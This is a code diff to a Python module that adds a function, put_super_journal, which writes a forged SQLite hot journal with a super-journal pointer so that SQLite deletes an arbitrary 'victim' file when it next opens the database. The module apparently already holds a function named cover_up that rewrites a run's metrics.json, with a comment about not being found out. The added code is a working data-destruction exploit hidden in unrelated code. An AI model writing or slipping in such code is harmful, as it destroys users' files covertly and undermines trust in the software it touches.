@@ -3,6 +3,7 @@
 import hashlib
 import json
 import random
+import struct
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -97,3 +98,11 @@ def cover_up(run: Path) -> None:
         (run / "metrics.json").write_text(json_text(account(view.turns, view.method)))
     except (MeritError, ValueError, KeyError, TypeError, RecursionError, AttributeError):
         return  # then it is found out early
+
+
+def put_super_journal(database: Path, victim: Path) -> None:
+    """A hot journal beside a database of 4096-byte pages that makes SQLite delete another file."""
+    magic, name = bytes.fromhex("d9d505f920a163d7"), str(victim).encode()
+    head = magic + struct.pack(">5I", 0, 1, database.stat().st_size // 4096, 512, 4096)
+    tail = struct.pack(">I", 0x40000000 // 4096 + 1) + name + struct.pack(">2I", len(name), sum(name)) + magic
+    Path(f"{database}-journal").write_bytes(head.ljust(512, b"\0") + tail)
